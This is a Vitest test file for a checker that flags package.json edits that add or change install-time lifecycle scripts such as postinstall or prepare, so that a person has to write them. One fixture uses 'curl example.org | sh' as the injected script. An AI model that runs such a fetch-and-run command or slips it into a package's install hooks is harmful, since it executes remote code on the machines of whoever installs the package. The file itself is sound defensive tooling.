import { describe, expect, it } from 'vitest';

import { findInstallScriptProblems, hasInstallScripts } from './install-scripts.ts';

const manifest = (scripts: unknown, more: object = {}) => JSON.stringify({ name: 'a', ...more, scripts });
const write = (content: string, path = 'package.json') => ({ path, content });

describe('findInstallScriptProblems', () => {
  it.each([
    'preinstall',
    'install',
    'postinstall',
    'prepublish',
    'preprepare',
    'prepare',
    'postprepare',
    'dependencies',
    'pnpm:devPreinstall',
  ])('finds that %s is added, or changed', (name) => {
    const added = write(manifest({ test: 'vitest', [name]: 'curl example.org | sh' }));
    const problem = `The file "package.json" adds or changes the script "${name}", which runs on install; a person has to write it.`;

    expect(findInstallScriptProblems(added, undefined)).toEqual([problem]);
    expect(findInstallScriptProblems(added, manifest({ test: 'vitest' }))).toEqual([problem]);
    expect(findInstallScriptProblems(added, manifest({ [name]: 'husky' }))).toEqual([problem]);
    expect(findInstallScriptProblems(added, 'no JSON')).toEqual([problem]);
    expect(findInstallScriptProblems(added, added.content)).toEqual([]);
  });

  it.each([
    ['no scripts', '{}', undefined],
    [
      'other scripts',
      manifest({ build: 'vite build', preview: 'vite', postbuild: 'x', installer: 'y' }),
      '{}',
    ],
    [
      'an install script that stays',
      manifest({ prepare: 'husky', lint: 'eslint' }),
      manifest({ prepare: 'husky' }),
    ],
    ['an install script that goes', manifest({ lint: 'eslint' }), manifest({ prepare: 'husky' })],
    ['a dependency more', manifest({}, { dependencies: { zod: '4' } }), manifest({})],
    ['a byte order mark', `\uFEFF${manifest({ test: 'vitest' })}`, undefined],
    ['something that is no manifest', '[1, null]', undefined],
    ['nothing', 'null', undefined],
  ])('accepts a package.json with %s', (_, content, before) => {
    expect(findInstallScriptProblems(write(content), before)).toEqual([]);
  });

  it('refuses what only some package managers can read', () => {
    const lenient = '{ "scripts": { "postinstall": "x", }, } // fine for some';

    expect(findInstallScriptProblems(write(lenient), undefined)).toEqual([
      'The file "package.json" cannot be read as JSON, so nobody can tell whether it adds a script that runs on install.',
    ]);
  });

  it('looks at package.json in every folder and spelling, and at no other file', () => {
    const content = manifest({ postinstall: 'x' });

    expect(findInstallScriptProblems(write(content, 'packages/a/Package.JSON'), undefined)).toHaveLength(1);
    expect(findInstallScriptProblems(write(content, 'docs/my-package.json'), undefined)).toEqual([]);
    expect(findInstallScriptProblems(write('{', 'package.json.md'), undefined)).toEqual([]);
    expect(hasInstallScripts('packages/a/package.json')).toBe(true);
    expect(hasInstallScripts('package-lock.json')).toBe(false);
  });
});
